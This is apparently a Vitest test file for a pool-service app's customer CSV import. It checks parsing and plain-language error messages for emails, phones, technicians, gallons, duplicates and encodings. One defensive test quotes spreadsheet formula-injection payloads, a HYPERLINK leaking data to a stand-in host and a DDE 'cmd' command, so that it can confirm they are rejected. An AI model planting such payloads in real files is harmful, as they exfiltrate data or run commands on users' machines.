import fs from 'node:fs'
import path from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FIXTURE_TECHNICIANS } from '../../tests/fixtures/customer-import/generate'
import { mapColumns } from './column-mapping'
import { buildImportPlan, canImport, describeCounts, type PlanOptions } from './import-plan.server'
import { type CsvSource, readCsv } from './read-csv.server'

const FIXTURES = path.resolve(import.meta.dirname, '../../tests/fixtures/customer-import')
const OPTIONS: PlanOptions = { defaultCountry: 'US', technicians: FIXTURE_TECHNICIANS.slice(0, 2) }

async function planOf(source: CsvSource | string, options: Partial<PlanOptions> = {}) {
  const read = await readCsv(typeof source === 'string' ? new TextEncoder().encode(source) : source)
  if (!read.ok) throw new Error(read.message)
  const built = buildImportPlan(read.table, mapColumns(read.table.headers), { ...OPTIONS, ...options })
  if (!built.ok) throw new Error(built.message)
  return built.plan
}
const fixture = (name: string, options: Partial<PlanOptions> = {}) =>
  planOf(fs.readFileSync(path.join(FIXTURES, name)), options)
const messages = (plan: { problems: Array<{ message: string }> }) => plan.problems.map((problem) => problem.message)

const HEADER = 'Name,Email,Phone,Address,City,State,Zip,Pool Size,Day,Frequency,Tech,Rate\n'

describe('buildImportPlan: problems in plain words, per row', () => {
  it('says which row has a bad email, and which technician does not exist and who does', async () => {
    const rows = [
      'Ann Smith,ann@example.com,,1 Palm Ave,Davie,FL,33324,,,,,',
      'Bob Jones,bob@,,2 Palm Ave,Davie,FL,33324,,,,,',
      'Carla Diaz,carla@example.com,,3 Palm Ave,Davie,FL,33324,,Mon,Weekly,Jon Smth,$85',
    ]
    const plan = await planOf(`${HEADER}${rows.join('\n')}\n`)
    expect(messages(plan)).toEqual([
      "Row 3: the email 'bob@' is not a valid email address.",
      "Row 4: no technician named 'Jon Smth' — choose one of Maya Flores, Tyler Brooks, or leave it blank.",
    ])
    expect(plan.problems.map((problem) => problem.column)).toEqual(['Email', 'Tech'])
    expect(plan.skippedRows).toEqual([3, 4])
    expect(plan.counts).toMatchObject({ rows: 3, rowsWithProblems: 2, customers: 1 })
  })

  it('matches technicians without minding case or spaces, and reports the unknown ones', async () => {
    const plan = await fixture('unknown-technicians.csv')
    expect(messages(plan)).toEqual([
      "Row 3: no technician named 'Jon Smth' — choose one of Maya Flores, Tyler Brooks, or leave it blank.",
      "Row 4: no technician named 'Gary (left 2023)' — choose one of Maya Flores, Tyler Brooks, or leave it blank.",
    ])
    expect(plan.customers[0]?.locations[0]?.plans[0]?.technicianId).toBe('tech-maya')
  })

  it('reads "15k", "15,000", "15000 gal" and "15.5k" and refuses a word and an ocean', async () => {
    const plan = await fixture('gallons.csv')
    const gallons = plan.customers.map((customer) => customer.locations[0]?.bodiesOfWater[0]?.gallons)
    expect(gallons).toEqual([15000, 15000, 15000, 15500])
    expect(messages(plan)).toEqual([
      "Row 6: the pool size 'big' is not a number of gallons (e.g. 15000, 15,000 or 15k).",
      "Row 7: the pool size '5000000' is outside 100 to 2,000,000 gallons.",
    ])
  })

  it('reports a repeated row, and keeps a second address of the same customer as a second location', async () => {
    const plan = await fixture('duplicates.csv')
    expect(messages(plan)).toEqual(['Row 4: it repeats row 2; delete one of them.'])
    expect(plan.counts).toMatchObject({ customers: 1, locations: 2, bodiesOfWater: 2, plans: 2 })
    expect(plan.customers[0]?.locations.map((location) => location.street)).toEqual(['40 Harbor Ct', '7 Mango St'])
  })

  it('refuses formula cells, and lets text that merely starts with a dash through', async () => {
    const plan = await fixture('formula.csv')
    expect(messages(plan)).toEqual([
      `Row 2: the customer name '=HYPERLINK("http://evil.example/?leak="…' looks like a spreadsheet formula, not a value. Remove the leading '=' if it is meant as text.`,
      `Row 3: the notes '=cmd|' /C calc'!A0' looks like a spreadsheet formula, not a value. Remove the leading '=' if it is meant as text.`,
    ])
    expect(plan.customers.map((customer) => [customer.customerName, customer.notes])).toEqual([
      ['Priya Anderson', '-- call before arriving'],
    ])
  })

  it('normalizes phone numbers to E.164 in the company’s country and reports invalid ones', async () => {
    const rows = [
      'Ann Smith,ann@example.com,(954) 555-0101,1 Palm Ave,Davie,FL,33324,,,,,',
      'Bob Jones,bob@example.com,+44 20 7946 0958,2 Palm Ave,Davie,FL,33324,,,,,',
      'Carla Diaz,carla@example.com,555-1234,3 Palm Ave,Davie,FL,33324,,,,,',
      'Dan Wu,dan@example.com,954.555.0102 / 954.555.0103,4 Palm Ave,Davie,FL,33324,,,,,',
    ]
    const plan = await planOf(`${HEADER}${rows.join('\n')}\n`)
    expect(plan.customers.map((customer) => customer.phone)).toEqual(['+19545550101', '+442079460958', '+19545550102'])
    expect(plan.customers[2]?.notes).toBe('Other phone: +19545550103')
    expect(messages(plan)).toEqual([
      "Row 4: the phone number '555-1234' is not a valid phone number: include the area code, or a + and the " +
        'country code for a number abroad.',
    ])
    const british = await planOf(`${HEADER}Ann Smith,ann@example.com,020 7946 0958,1 High St,London,,SW1A 1AA,,,,,\n`, {
      defaultCountry: 'GB',
    })
    expect(british.customers[0]?.phone).toBe('+442079460958')
  })

  it('puts a service plan’s values on a row without a day to the person, not silently away', async () => {
    const plan = await planOf(
      `${HEADER}Ann Smith,ann@example.com,,1 Palm Ave,Davie,FL,33324,,,Weekly,Maya Flores,$85\n`,
    )
    expect(messages(plan)).toEqual([
      'Row 2: the frequency, technician and rate are filled in but there is no service day, so there is no service ' +
        'plan to put them on. Add the day, or clear them.',
    ])
  })

  it('wants a name and an address, and coordinates in pairs', async () => {
    const plan = await planOf(
      'Name,Address,City,Latitude,Longitude\n,1 Palm Ave,Davie,,\nBob Jones,,Davie,,\nCarla Diaz,3 Palm Ave,Davie,26.1,\n' +
        'Dan Wu,4 Palm Ave,Davie,95,-80.2\nEve Stone,5 Palm Ave,Davie,0,0\n',
    )
    expect(messages(plan)).toEqual([
      'Row 2: there is no customer name.',
      'Row 3: there is no service address.',
      'Row 4: a latitude needs a longitude, and a longitude a latitude; fill in both or neither.',
      "Row 5: the latitude '95' is not between -90 and 90.",
    ])
    // 0, 0 is how many exports write "no coordinates".
    expect(plan.customers[0]).toMatchObject({ customerName: 'Eve Stone' })
    expect(plan.customers[0]?.locations[0]).toMatchObject({ lat: null, lng: null })
  })

  it('names the earlier row when rows of one customer disagree', async () => {
    const rows = [
      'Ann Smith,ann@example.com,(954) 555-0101,1 Palm Ave,Davie,FL,33324,,,,,',
      'Ann Smith,ann@example.com,(954) 555-0199,9 Oak St,Davie,FL,33324,,,,,',
      'Ann Smith,ann@example.com,,1 Palm Ave,Davie,FL,33324,,Mon,Weekly,,$85',
      'Ann Smith,ann@example.com,,1 Palm Ave,Davie,FL,33324,,Mon,Weekly,,$95',
    ]
    const plan = await planOf(`${HEADER}${rows.join('\n')}\n`)
    expect(messages(plan)).toEqual([
      "Row 3: the phone number differs from row 2 of the same customer ('+19545550101' there). Use the same value " +
        'on every row of a customer, or leave it blank on this one.',
      "Row 5: the Monday service at '1 Palm Ave' is already on row 4 with other details.",
    ])
    expect(plan.counts).toMatchObject({ customers: 1, locations: 1, plans: 1 })
  })

  it('reads a European semicolon file, a BOM file and a Windows-1252 file into the same kind of plan', async () => {
    const semicolon = await fixture('semicolon.csv')
    expect(semicolon.problems).toEqual([])
    expect(semicolon.customers.map((c) => [c.customerName, c.locations[0]?.plans[0]?.rateCents])).toEqual([
      ['Smith, John', 8500],
      ['Garcia, Maria', 120050],
      ['Nguyen, Anh', 9500],
    ])
    expect(semicolon.customers[0]?.locations[0]?.bodiesOfWater[0]?.gallons).toBe(15000)
    const bom = await fixture('utf8-bom.csv')
    const windows = await fixture('windows-1252.csv')
    expect(bom.customers.map((c) => c.customerName)).toEqual(['José Hernández', 'Renée O’Brien'])
    expect(windows.customers.map((c) => c.customerName)).toEqual(['José Peña', 'Chloé O’Neil'])
    expect([...bom.problems, ...windows.problems]).toEqual([])
  })

  it('keeps quoted commas and line breaks, and lists ragged rows as problems', async () => {
    const quoted = await fixture('quoted.csv')
    expect(quoted.problems).toEqual([])
    expect(quoted.customers[0]).toMatchObject({ customerName: 'Smith, John', notes: 'Prefers texts' })
    expect(quoted.customers[0]?.locations[0]).toMatchObject({
      street: '12 Palm Ave, Unit 4',
      gateCode: '#1234, then #5678',
      accessNotes: 'Side gate,\r\nthen the "blue" door',
    })
    const ragged = await fixture('ragged.csv')
    expect(ragged.skippedRows).toEqual([2, 3])
    expect(ragged.customers.map((customer) => customer.customerName)).toEqual(['Jason Brown'])
    const blank = await fixture('blank-lines.csv')
    expect(blank.counts).toMatchObject({ rows: 2, customers: 2, rowsWithProblems: 0 })
  })
})

describe('buildImportPlan: customers, locations, water and plans', () => {
  it('makes one customer with several locations, pools and spas, and a plan per day', async () => {
    const rows = [
      'Ann Smith,ann@example.com,(954) 555-0101,1 Palm Ave,Davie,FL,33324,15k,Mon,Weekly,Maya Flores,$85',
      'Ann Smith,,,1 Palm Avenue,Davie,FL,33324,,Thu,Weekly,maya flores,$85',
      'Ann Smith,ann@example.com,,"9 Oak St, Unit 2",Weston,FL,33326,20000,Tuesdays,Every other week,,"$1,200.50"',
      'Bob Jones,,(954) 555-0102,2 Palm Ave,Davie,FL,33324,,Mon/Thu,Twice a week,Tyler Brooks,95',
      'bob  jones,,,2 Palm Ave.,Davie,FL,33324,,,,,',
    ]
    const plan = await planOf(`${HEADER}${rows.join('\n')}\n`)
    expect(plan.problems).toEqual([])
    expect(describeCounts(plan.counts)).toBe('2 customers, 3 service locations, 2 bodies of water, 5 service plans')
    const [ann, bob] = plan.customers
    expect(ann).toMatchObject({ key: 'email:ann@example.com', rows: [2, 3, 4], phone: '+19545550101' })
    expect(ann?.locations.map((location) => [location.street, location.rows])).toEqual([
      ['1 Palm Ave', [2, 3]],
      ['9 Oak St, Unit 2', [4]],
    ])
    expect(ann?.locations[0]?.bodiesOfWater).toEqual([
      { name: 'Pool', gallons: 15000, surface: null, sanitizer: null, indoor: null, row: 2 },
    ])
    expect(ann?.locations[0]?.plans.map((p) => [p.weekday, p.frequencyWeeks, p.technicianId, p.rateCents])).toEqual([
      [1, 1, 'tech-maya', 8500],
      [4, 1, 'tech-maya', 8500],
    ])
    expect(ann?.locations[1]?.plans[0]).toMatchObject({ weekday: 2, frequencyWeeks: 2, rateCents: 120050 })
    expect(ann?.locations[1]?.plans[0]?.rateType).toBe('per-visit')
    expect(bob).toMatchObject({ key: 'name:bob jones', rows: [5, 6] })
    expect(bob?.locations[0]?.plans.map((p) => [p.weekday, p.frequencyWeeks])).toEqual([
      [1, 1],
      [4, 1],
    ])
  })

  it('makes a Pool and a Spa from "Pool & Spa", and a spa row at the same address a second body', async () => {
    const plan = await planOf(
      'Name,Address,Zip,Pool Type,Gallons,Sanitizer\nAnn,1 Palm Ave,33324,Pool & Spa,15000,Salt\n' +
        'Bob,2 Palm Ave,33324,Pool,18000,\nBob,2 Palm Ave,33324,Hot tub,500,Chlorine\n',
    )
    expect(plan.problems).toEqual([])
    expect(
      plan.customers.map((c) => c.locations[0]?.bodiesOfWater.map((b) => [b.name, b.gallons, b.sanitizer])),
    ).toEqual([
      [
        ['Pool', 15000, 'salt'],
        ['Spa', null, null],
      ],
      [
        ['Pool', 18000, null],
        ['Spa', 500, 'chlorine'],
      ],
    ])
  })

  it('splits a whole address in one column, and builds the billing address from its parts', async () => {
    const plan = await planOf(
      'Name,Address,Billing Street 1,Billing City,Billing State,Billing Zip\n' +
        'Ann,"12 Palm Ave, Fort Lauderdale, FL 33301",PO Box 12,Fort Lauderdale,FL,33302\n',
    )
    expect(plan.customers[0]?.billingAddress).toBe('PO Box 12, Fort Lauderdale, FL 33302')
    expect(plan.customers[0]?.locations[0]).toMatchObject({
      street: '12 Palm Ave',
      city: 'Fort Lauderdale',
      state: 'FL',
      postalCode: '33301',
    })
  })

  it('reads the three fixtures without a problem', async () => {
    for (const file of ['skimmer.csv', 'pool-brain.csv', 'jobber.csv']) {
      const plan = await fixture(file, { technicians: FIXTURE_TECHNICIANS })
      expect([file, plan.problems]).toEqual([file, []])
      expect(plan.counts.customers).toBe(24)
    }
  })

  it('leaves problem rows out whole, and lets Import run only without problems or when skipping them', async () => {
    const plan = await planOf(
      `${HEADER}Ann Smith,ann@example.com,,1 Palm Ave,Davie,FL,33324,15k,Mon,Weekly,,$85\n` +
        'Ann Smith,ann@example.com,,9 Oak St,Davie,FL,33324,huge,Tue,Weekly,,$85\n',
    )
    expect(plan.counts).toMatchObject({ customers: 1, locations: 1, bodiesOfWater: 1, plans: 1 })
    expect(canImport(plan, false)).toBe(false)
    expect(canImport(plan, true)).toBe(true)
  })
})

describe('buildImportPlan: any input', () => {
  it('never throws, whatever the cells hold: every row ends in the plan or with a problem', () => {
    const headers = ['Name', 'Email', 'Phone', 'Address', 'Zip', 'Gallons', 'Day', 'Frequency', 'Tech', 'Rate', 'Dog']
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constantFrom('', 'Ann', 'ann@example.com', '(954) 555-0101', '15k', 'Mon', 'Weekly', 'Maya Flores', '$85'),
    )
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 11, maxLength: 11 }), { maxLength: 20 }), (cells) => {
        const rows = cells.map((values, i) => ({ row: i + 2, values }))
        const built = buildImportPlan({ rows, problems: [] }, mapColumns(headers), OPTIONS)
        if (!built.ok) throw new Error(built.message)
        const placed = new Set(built.plan.customers.flatMap((customer) => customer.rows))
        for (const { row, values } of rows) {
          if (values.every((value) => value.trim() === '')) continue
          expect(placed.has(row) !== built.plan.skippedRows.includes(row)).toBe(true)
        }
      }),
      { numRuns: 300 },
    )
  })

  it('never throws on any bytes through the reader', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), fc.string({ maxLength: 200 }), async (raw, text) => {
        for (const source of [raw, new TextEncoder().encode(`${HEADER}${text}`)]) {
          const read = await readCsv(source)
          if (!read.ok) {
            expect(read.message.length).toBeGreaterThan(0)
            continue
          }
          const built = buildImportPlan(read.table, mapColumns(read.table.headers), OPTIONS)
          expect(built.ok || built.message.length > 0).toBe(true)
        }
      }),
      { numRuns: 300 },
    )
  })
})
